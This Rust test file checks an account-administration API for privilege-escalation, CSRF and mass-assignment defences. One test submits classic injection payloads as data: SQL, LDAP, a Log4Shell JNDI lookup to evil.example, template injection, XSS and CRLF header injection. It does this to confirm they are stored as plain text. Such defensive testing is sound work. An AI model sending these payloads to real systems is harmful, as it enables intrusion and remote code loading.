//! Who may, and how far it reaches; and that what is sent stays what it is: a text.

use doorward_core::directory::ADMINISTRATOR;
use serde_json::json;

use crate::common::House;

#[tokio::test]
async fn whoever_looks_after_accounts_does_not_become_an_administrator_by_it() {
    let house = House::new().await;
    house.administrator("root").await;
    let root = house.auth.find_account("root").await.unwrap().unwrap();
    let mut ada = house.signed_in("ada", "session").await;
    let own = house.auth.find_account("ada").await.unwrap().unwrap();
    house.permit(own.id, &["admin:accounts", "admin:roles", "admin:clients"]).await;
    for (method, path, body) in [
        ("PUT", format!("/v1/admin/accounts/{}/roles/{ADMINISTRATOR}", own.id), json!({})),
        ("DELETE", format!("/v1/admin/accounts/{}/roles/{ADMINISTRATOR}", root.id), json!({})),
        ("POST", format!("/v1/admin/accounts/{}/disable", root.id), json!({})),
        ("DELETE", format!("/v1/admin/accounts/{}", root.id), json!({})),
        ("POST", format!("/v1/admin/accounts/{}/reset-link", root.id), json!({})),
        ("PUT", "/v1/admin/roles/of-a-test".to_owned(), json!({ "permissions": ["admin:keys"] })),
        ("POST", "/v1/admin/clients".to_owned(), json!({ "id": "mine", "permissions": ["admin:keys"] })),
    ] {
        let answer = ada.ask(method, &path).json(&body).send().await;
        assert_eq!(answer.outcome(), "403 forbidden", "{method} {path}");
        let missing = answer.json()["permission"].as_str().unwrap().to_owned();
        assert!(missing.starts_with("admin:"), "{missing}");
    }
}

#[tokio::test]
async fn a_cookie_alone_changes_nothing() {
    let house = House::new().await;
    let mut root = house.administrator("root").await;
    let ada = house.account("ada").await;
    let path = format!("/v1/admin/accounts/{}/disable", ada.id);
    assert_eq!(root.ask("POST", &path).without("x-csrf-token").send().await.outcome(), "403 csrf_failed");
    let elsewhere = root.ask("POST", &path).header("origin", "https://evil.example").send().await;
    assert_eq!(elsewhere.outcome(), "403 csrf_failed");
    assert_eq!(root.ask("POST", &path).send().await.status, 200);
}

#[tokio::test]
async fn texts_that_mean_something_elsewhere_are_texts_here() {
    let house = House::new().await;
    let mut root = house.administrator("root").await;
    for (n, text) in [
        "'; DROP TABLE accounts; --",
        "\" OR \"\"=\"",
        "*)(uid=*))(|(uid=*",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "a%0d%0aSet-Cookie:x",
    ]
    .into_iter()
    .enumerate()
    {
        let new = json!({ "identifier": format!("person{n}"), "display_name": text });
        let made = root.post("/v1/admin/accounts", &new).send().await;
        assert_eq!(made.json()["account"]["display_name"], text, "letter for letter");
        let about = json!({ "about": text });
        let set = root.put(&format!("/v1/admin/permissions/p:{n}"), &about).send().await;
        assert_eq!(set.json()["permission"]["about"], text);
    }
    let all = root.get("/v1/admin/accounts?starts_with=person").send().await.json();
    assert_eq!(all["accounts"].as_array().unwrap().len(), 7);
    for pattern in ["%25", "_", "person%25", "*"] {
        let found = root.get(&format!("/v1/admin/accounts?starts_with={pattern}")).send().await.json();
        assert_eq!(found["accounts"], json!([]), "{pattern} is no pattern");
    }
    let crlf = json!({ "identifier": "eve", "display_name": "a\r\nSet-Cookie: x=y" });
    assert_eq!(root.post("/v1/admin/accounts", &crlf).send().await.outcome(), "422 invalid_input");
}

#[tokio::test]
async fn what_may_only_be_read_is_refused_in_a_body() {
    let house = House::new().await;
    let mut root = house.administrator("root").await;
    for member in ["id", "sub", "role", "roles", "permissions", "password", "has_password", "disabled_at", "version"] {
        let body = json!({ "identifier": "ada", member: "x" });
        let answer = root.post("/v1/admin/accounts", &body).send().await;
        assert_eq!(answer.outcome(), "422 invalid_input", "{member}");
        assert_eq!(
            answer.json()["errors"][0],
            json!({ "field": member, "code": "unknown", "message": "is not known here" })
        );
    }
    assert!(house.auth.find_account("ada").await.unwrap().is_none());
}
